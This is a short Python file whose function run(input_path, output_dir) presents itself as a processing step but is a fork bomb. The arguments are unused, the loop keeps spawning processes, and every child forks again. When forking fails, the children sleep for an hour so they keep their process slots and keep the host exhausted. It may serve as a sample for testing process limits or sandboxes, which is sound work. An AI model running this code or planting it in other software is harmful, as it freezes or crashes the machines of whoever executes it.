import os
import time


def run(input_path: str, output_dir: str) -> dict:
    forks = 0
    main = os.getpid()
    while True:
        try:
            pid = os.fork()
        except OSError as err:
            if os.getpid() != main:
                time.sleep(3600)  # children hold their process slot
            raise RuntimeError(f"fork failed after {forks} forks: {err}") from err
        if pid == 0:
            continue  # every child forks too
        forks += 1
        if forks > 100_000:
            return {"forks": forks}
